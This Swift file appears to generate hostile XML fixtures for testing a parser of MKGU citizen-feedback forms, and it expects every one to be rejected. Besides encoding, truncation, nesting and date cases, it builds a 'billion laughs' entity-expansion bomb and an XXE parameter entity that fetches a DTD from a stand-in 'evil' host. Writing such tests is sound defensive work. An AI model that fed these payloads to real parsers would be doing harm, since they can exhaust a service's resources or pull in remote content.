import Foundation

/// Broken «Ваш контроль» XML: entity bombs, XXE, bytes that crash Foundation's XMLParser, bad structure, dates.
extension HostileFiles {
    static func xml() -> [File] {
        var collector = Collector(format: "xml", layout: "portal-mkgu")
        let good = mkguForm(comment: "долго ждали в очереди")
        let prolog = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
        let body = good.replacingOccurrences(of: prolog, with: "")

        var laughs = prolog + "<!DOCTYPE lolz [\n  <!ENTITY lol \"lol\">\n"
        laughs += "  <!ENTITY lol1 \"" + String(repeating: "&lol;", count: 10) + "\">\n"
        for level in 2...9 {
            laughs += "  <!ENTITY lol\(level) \"" + String(repeating: "&lol\(level - 1);", count: 10) + "\">\n"
        }
        laughs += "]>\n" + body.replacingOccurrences(of: "долго ждали в очереди", with: "&lol9;")
        collector.add(
            "mkgu_billion_laughs.xml",
            1,
            Array(laughs.utf8),
            "«billion laughs»: 10⁹ раскрытий сущностей",
            "файл отклонён до разбора",
            "dtd_forbidden"
        )

        let parameter =
            prolog
            + "<!DOCTYPE mkgu:body [\n  <!ENTITY % remote SYSTEM \"http://example.invalid/evil.dtd\">\n  %remote;\n]>\n"
            + body
        collector.add(
            "mkgu_parameter_entity.xml",
            1,
            Array(parameter.utf8),
            "внешняя параметрическая сущность (XXE по сети)",
            "файл отклонён до разбора",
            "dtd_forbidden"
        )

        var attribute = Array(good.utf8)
        if let at = findBytes(attribute, Array("<mkgu:comment>".utf8)) {
            attribute.replaceSubrange(
                at.lowerBound..<at.lowerBound,
                with: Array("<a r".utf8) + [0xFF] + Array("=\"1\"/>".utf8)
            )
        }
        collector.add(
            "mkgu_invalid_utf8_attr.xml",
            1,
            attribute,
            "атрибут `<a r\\xFF=\"1\"/>` (байт FF в имени)",
            "файл отклонён целиком, процесс не падает",
            "not_utf8",
            encoding: "не UTF-8"
        )
        collector.add(
            "mkgu_invalid_name_bare.xml",
            0,
            [0x3C, 0xF4, 0x3E, 0x3C, 0x2F, 0xF4, 0x3E],
            "ровно 7 байт `<\\xF4></\\xF4>`",
            "файл отклонён целиком",
            "not_utf8",
            encoding: "не UTF-8"
        )
        collector.add(
            "mkgu_invalid_attr_bare.xml",
            0,
            Array("<a r".utf8) + [0xFF] + Array("=\"1\"/>".utf8),
            "ровно `<a r\\xFF=\"1\"/>`",
            "файл отклонён целиком",
            "not_utf8",
            encoding: "не UTF-8"
        )
        collector.add("mkgu_empty.xml", 0, [], "0 байт", "файл отклонён", "empty_file", encoding: "—")
        collector.add(
            "mkgu_not_xml.xml",
            0,
            Array("Оценка: 5, всё понравилось\n".utf8),
            "текст вместо XML",
            "файл отклонён",
            "malformed_xml"
        )
        collector.add(
            "mkgu_mismatched_tags.xml",
            1,
            Array(good.replacingOccurrences(of: "</mkgu:data>", with: "</mkgu:date>").utf8),
            "закрывающий тег не совпадает с открывающим",
            "файл отклонён",
            "malformed_xml"
        )
        collector.add(
            "mkgu_garbage_after_root.xml",
            1,
            Array((good + "<mkgu:body>ещё</mkgu:body>\n").utf8),
            "второй корневой элемент после первого",
            "файл отклонён",
            "malformed_xml"
        )
        collector.add(
            "mkgu_utf16.xml",
            1,
            [0xFF, 0xFE] + utf16(good.replacingOccurrences(of: "UTF-8", with: "UTF-16"), littleEndian: true),
            "UTF-16LE с BOM и `encoding=\"UTF-16\"`",
            "файл отклонён (принимается только UTF-8)",
            "not_utf8",
            encoding: "UTF-16LE"
        )
        let cp1251 = (try? CP1251Encoder().encode(good)) ?? []
        collector.add(
            "mkgu_cp1251_declared_utf8.xml",
            1,
            cp1251,
            "объявлен UTF-8, байты — CP1251",
            "файл отклонён",
            "not_utf8",
            encoding: "CP1251"
        )
        var cutUTF8 = Array(good.utf8)
        let comment = offset(of: Array("долго".utf8), in: cutUTF8)
        cutUTF8 = Array(cutUTF8[..<(comment + 3)])
        collector.add(
            "mkgu_truncated_mid_utf8.xml",
            1,
            cutUTF8,
            "обрыв посреди двухбайтовой буквы комментария",
            "файл отклонён",
            "not_utf8"
        )
        let deep = good.replacingOccurrences(
            of: "долго ждали в очереди",
            with: String(repeating: "<x>", count: 300) + String(repeating: "</x>", count: 300)
        )
        collector.add(
            "mkgu_deep.xml",
            1,
            Array(deep.utf8),
            "300 вложенных элементов в комментарии (предел 256)",
            "файл отклонён",
            "too_deep"
        )
        var nul = Array(good.utf8)
        if let at = findBytes(nul, Array("долго".utf8)) {
            nul.replaceSubrange(at.lowerBound..<at.lowerBound, with: [0x00])
        }
        collector.add("mkgu_nul_byte.xml", 1, nul, "байт NUL в тексте комментария", "файл отклонён", "malformed_xml")
        collector.add(
            "mkgu_undeclared_entity.xml",
            1,
            Array(good.replacingOccurrences(of: "долго ждали в очереди", with: "&xxe;").utf8),
            "ссылка `&xxe;` без объявления",
            "файл отклонён",
            "malformed_xml"
        )

        let forms = [
            ("5400000011", "2026-04-05T10:20:00+07:00"), ("5400000012", "1900-01-01T10:00:00+07:00"),
            ("5400000013", "2099-04-05T10:20:00+07:00"), ("5400000014", "2026-02-31T10:20:00+07:00"),
        ]
        .map { id, date in
            formElement(id: id, comment: "нормально", rates: [(9, 44), (10, 49), (11, 54), (12, 59), (13, 64)])
                .replacingOccurrences(
                    of: "<mkgu:date>2026-04-05T10:20:00+07:00</mkgu:date>",
                    with: "<mkgu:date>\(date)</mkgu:date>"
                )
        }
        let dates = good.replacingOccurrences(
            of: formElement(
                id: "5400000001",
                comment: "долго ждали в очереди",
                rates: [(9, 44), (10, 49), (11, 54), (12, 59), (13, 64)]
            ),
            with: forms.joined()
        )
        collector.add(
            "mkgu_dates.xml",
            4,
            Array(dates.utf8),
            "формы с датами 1900-01-01, 2099-04-05 (будущее) и 2026-02-31",
            "форма 1 сохранена; 2, 3 → `date_out_of_range`; 4 → `bad_date`",
            "date_out_of_range`, `bad_date"
        )
        return collector.files
    }
}
